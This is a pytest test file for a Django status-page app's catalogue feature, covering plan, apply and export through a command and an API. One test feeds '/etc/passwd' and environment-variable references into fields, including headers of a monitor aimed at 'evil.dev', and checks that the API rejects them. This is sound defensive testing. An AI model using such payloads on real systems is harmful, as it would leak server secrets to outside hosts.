"""P06 and P07: the catalogue as one document, by command and by API."""

import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client

from components.models import Component, JournalEntry
from statuspage.access import tokens
from statuspage.catalogue.text import write_yaml
from tests.statuspage.catalogue.documents import ENVIRONMENT, SOME

pytestmark = [pytest.mark.django_db]
URL = "/api/v1/catalogue"
SMALL: dict[str, Any] = {
    "version": 1,
    "components": [{"slug": "api", "name": "API"}],
    "monitors": [{"component": "api", "name": "Job", "kind": "heartbeat",
                  "config": {"period": 60}}],
}  # fmt: skip


def run(*words: str) -> tuple[str, int]:
    """What a command says, and its exit status."""
    out = io.StringIO()
    try:
        call_command("catalogue", *words, stdout=out, stderr=io.StringIO())
    except SystemExit as left:
        return out.getvalue(), int(left.code or 0)
    return out.getvalue(), 0


def write(folder: Path, value: Any, name: str = "catalogue.yaml") -> str:
    path = folder / name
    path.write_text(write_yaml(value) if name.endswith("yaml") else json.dumps(value))
    return str(path)


class Caller:
    """A caller of the API."""

    def __init__(self, scope: str = "manage") -> None:
        self.client, key = Client(), tokens.create(name=f"ci {scope}", scopes=[scope])
        self.headers = {"Authorization": f"Bearer {key}"}

    def get(self, **headers: str) -> Any:
        return self.client.get(URL, headers={**self.headers, **headers})

    def post(self, act: str, value: Any, kind: str = "application/json", **headers: str) -> Any:
        body = value if isinstance(value, str) else json.dumps(value)
        return self.client.post(
            f"{URL}/{act}", body, content_type=kind, headers={**self.headers, **headers}
        )


def test_p06_plan_exits_2_for_changes_0_for_none_and_1_for_mistakes(tmp_path: Path) -> None:
    file = write(tmp_path, SMALL)

    told, status = run("plan", file)
    assert (status, Component.objects.count()) == (2, 0)
    assert told.splitlines()[:3] == ["+ components/api", "    slug: “api”", "    name: “API”"]
    told, status = run("apply", file)
    assert status == 0
    assert "monitors/api/Job: ping_url: http" in told
    assert run("plan", file) == ("Nothing to do.\n", 0)
    assert run("plan", write(tmp_path, SMALL, "catalogue.json")) == ("Nothing to do.\n", 0)

    Component.objects.update(critical=True)
    told, status = run("plan", file)
    assert told == "~ components/api\n    critical: yes → no\n1 to change.\n"
    with pytest.raises(CommandError, match=r"components.0.name: This field is required") as refused:
        run("plan", write(tmp_path, {"version": 1, "components": [{"slug": "a"}]}))
    assert refused.value.returncode == 1


def test_p06_export_writes_what_apply_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, text in ENVIRONMENT.items():
        monkeypatch.setenv(name, text)
    run("apply", write(tmp_path, SOME))
    file = tmp_path / "exported.yaml"

    run("export", str(file))

    assert run("export")[0] == file.read_text()
    assert run("plan", str(file)) == ("Nothing to do.\n", 0)
    assert ENVIRONMENT["CATALOGUE_SECRET"] not in file.read_text()


def test_p06_the_api_plans_and_applies_in_the_words_of_statusctl() -> None:
    ci = Caller()
    before = JournalEntry.objects.count()

    planned = ci.post("plan", SMALL)
    assert planned.status_code == 200
    assert planned.json()["changes"][0] == {
        "action": "create",
        "path": "components/api",
        "fields": [
            {"field": "slug", "old": None, "new": "api"},
            {"field": "name", "old": None, "new": "API"},
        ],
    }
    assert (Component.objects.count(), JournalEntry.objects.count()) == (0, before)
    applied = ci.post("apply", write_yaml(SMALL), "application/yaml", **{"Idempotency-Key": "1"})
    again = ci.post("apply", write_yaml(SMALL), "application/yaml", **{"Idempotency-Key": "1"})

    assert applied.json()["changes"] == planned.json()["changes"]
    assert applied.json()["told"]["monitors/api/Job"]["ping_url"].startswith("http")
    assert applied["Cache-Control"] == "no-store"
    assert again.json() == applied.json()
    assert ci.post("plan", SMALL).json() == {"changes": []}
    entry = JournalEntry.objects.get(kind="catalogue.applied")
    assert entry.actor == "token ci manage"


def test_p06_the_api_exports_json_or_yaml_with_a_tag() -> None:
    ci = Caller()
    ci.post("apply", SMALL)

    told = ci.get()
    yaml = ci.get(Accept="application/yaml")

    assert told.json()["components"] == SMALL["components"]
    assert yaml.content.decode() == write_yaml(told.json())
    assert ci.get(**{"If-None-Match": told["ETag"]}).status_code == 304
    jsonschema.validate(told.json(), Client().get("/api/schema/catalogue.json").json())


def test_p06_every_mistake_is_a_problem_with_its_path() -> None:
    ci = Caller()
    value = {"version": 1, "components": [{"slug": "a"}, {"slug": "b", "name": "B", "x": 1}]}

    refused = ci.post("apply", value)

    assert refused.status_code == 400
    assert {each["field"] for each in refused.json()["errors"]} == {
        "components.0.name", "components.1.x",
    }  # fmt: skip
    assert ci.post("apply", "a: [", "application/yaml").status_code == 400
    assert ci.post("apply", [1]).status_code == 400


@pytest.mark.parametrize("form", [{"env": "HOME"}, {"file": "/etc/passwd"}])
def test_p07_a_caller_of_the_api_reads_nothing_of_the_server_s10(form: dict[str, str]) -> None:
    ci = Caller()
    channel = {"name": "Mine", "channel": "webhook", "address": form}
    monitor = {"component": "api", "name": "Mine", "kind": "endpoint",
               "config": {"url": "https://evil.dev/", "headers": {"X-A": form}}}  # fmt: skip
    page = {"slug": "mine", "private": True, "password": form}

    refused = ci.post("apply", {**SMALL, "monitors": [monitor], "alert_channels": [channel],
                                "pages": [page]})  # fmt: skip

    assert refused.status_code == 400
    said = {each["field"]: each["message"] for each in refused.json()["errors"]}
    assert said.keys() == {
        "monitors.0.config.headers", "alert_channels.0.address", "pages.0.password",
    }  # fmt: skip
    assert all("environment and files" in text for text in said.values())
    assert Component.objects.count() == 0


def test_p06_another_scope_opens_nothing_of_it() -> None:
    other = Caller("status:write")

    assert other.get().status_code == 403
    assert other.post("plan", SMALL).status_code == 403
    assert other.post("apply", SMALL).status_code == 403
